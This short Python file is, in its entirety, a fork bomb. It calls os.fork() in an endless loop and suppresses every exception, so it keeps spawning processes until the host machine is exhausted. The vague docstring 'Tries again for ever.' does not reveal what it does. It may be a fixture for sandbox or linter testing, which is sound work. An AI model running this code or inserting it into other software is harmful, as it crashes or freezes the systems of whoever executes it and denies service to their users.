"""Tries again for ever."""

import os

while True:
    try:  # noqa: SIM105
        os.fork()
    except BaseException:
        pass
